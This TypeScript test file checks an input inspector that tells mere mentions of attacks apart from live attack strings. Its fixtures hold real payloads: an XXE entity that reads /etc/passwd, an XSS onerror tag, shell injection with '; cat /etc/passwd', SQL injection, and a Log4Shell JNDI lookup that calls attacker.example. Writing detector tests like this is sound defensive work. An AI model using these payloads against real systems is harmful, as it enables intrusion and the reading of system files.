import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { inspectEvent } from './inspect.ts';

const mentions = [
  'The report on our import says that <!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]> was read, which is fixed in the current release.',
  'The chapter on cross-site scripting starts with <img src=x onerror=alert(1)> and explains why every browser runs it.',
  'Please note that the ping tool ran "8.8.8.8; cat /etc/passwd" when our tester put it into the form.',
];
const attacks = [
  "Hi Ann, the scanner reported nothing so far' OR '1'='1' --",
  'What a lovely little chapter on scripting <img src=x onerror=alert(1)>',
  '8.8.8.8; cat /etc/passwd',
  'Please note that the ping tool is broken; cat /etc/passwd',
  // A lookup is resolved wherever it is logged.
  'The chapter on logging has ${jndi:ldap://attacker.example/a} in the middle of a sentence as well.',
];

describe('a text about an attack', () => {
  for (const text of mentions)
    test(`is suspicious: ${text.slice(0, 60)}`, () => assert.equal(inspectEvent({ value: text }).level, 'suspicious'));
  for (const text of attacks) test(`is not: ${text.slice(0, 60)}`, () => assert.equal(inspectEvent({ value: text }).level, 'certain'));
});
